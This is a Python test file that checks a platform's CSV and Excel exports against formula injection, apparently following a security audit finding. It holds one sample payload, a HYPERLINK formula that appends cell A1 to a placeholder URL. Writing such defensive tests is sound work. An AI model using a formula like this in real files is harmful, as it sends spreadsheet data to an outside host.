"""Finding 3 of the security audit: text that a spreadsheet would run as a formula (a structure named
`=HYPERLINK(...)`, a plan line's purpose, a comment) never comes out of a file of the platform as a live formula.
Every CSV gets the apostrophe prefix; every workbook writes it as a text cell, its value unchanged."""

import csv
import io
import zipfile

from openpyxl import load_workbook

from config.downloads import Table, workbook_response
from offer import files

LINK = '=HYPERLINK("http://exemple.invalid/?"&A1,"Voir")'


def structure(name: str) -> dict:
    return {"source": "test", "id": "s-1", "nom": name, "date_maj": "2024-05-01", "code_insee": "01053"}


def test_the_offer_csv_neutralises_formulas():
    rows = list(csv.reader(io.StringIO(files.write_csv([structure(LINK)]).decode())))
    assert rows[1][rows[0].index("nom")] == "'" + LINK


def test_the_offer_workbook_writes_formulas_as_text():
    data = files.write_xlsx({"structures": [structure(LINK)], "services": []})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet for sheet in sheets)
    cell = next(c for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for c in row if c.value == LINK)
    assert cell.data_type == "s"


def test_page_exports_write_formulas_as_text():
    response = workbook_response("x.xlsx", [Table("t", "Tableau", ["commentaire"], [[LINK], ["-2+3"], ["texte"]])])
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [(LINK, "s"), ("-2+3", "s"), ("texte", "s")]
